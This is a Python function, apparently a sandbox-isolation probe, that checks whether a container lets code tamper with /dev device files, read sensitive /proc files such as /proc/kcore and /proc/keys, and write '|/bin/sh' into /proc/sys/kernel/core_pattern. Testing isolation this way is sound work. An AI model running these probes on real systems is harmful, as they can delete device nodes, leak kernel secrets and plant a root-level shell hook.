import os, stat

def attack(inputs):
    found = []
    for name, number in (("null", (1, 3)), ("zero", (1, 5)), ("full", (1, 7)), ("random", (1, 8)), ("urandom", (1, 9))):
        seen = os.lstat(f"/dev/{name}")
        if not stat.S_ISCHR(seen.st_mode) or (os.major(seen.st_rdev), os.minor(seen.st_rdev)) != number:
            found.append(f"/dev/{name} is another file")
        for change in (os.unlink, lambda path: os.rename(path, "/tmp/device"), lambda path: os.symlink("/proc/sys", path + "-too")):
            try:
                change(f"/dev/{name}")
                found.append(f"/dev/{name} was changed")
            except OSError:
                pass
    for path in ("/proc/kcore", "/proc/keys", "/proc/timer_list", "/proc/latency_stats", "/proc/sched_debug", "/proc/acpi", "/proc/scsi"):
        try:
            if os.path.isdir(path):
                found.extend(f"{path}/{name}" for name in os.listdir(path))
            elif open(path, "rb").read(1):
                found.append(path)
        except OSError:
            pass
    for path in ("/proc/sys/kernel/core_pattern", "/proc/self/attr/exec", "/proc/1/attr/current", "/proc/self/oom_score_adj"):
        try:
            handle = os.open(path, os.O_WRONLY)
            if os.fstat(handle).st_rdev == os.stat("/dev/null").st_rdev:
                continue  # the sandbox masks this file
            os.write(handle, b"-1000" if path.endswith("adj") else b"|/bin/sh")
            found.append(path)
        except OSError:
            pass
    return found
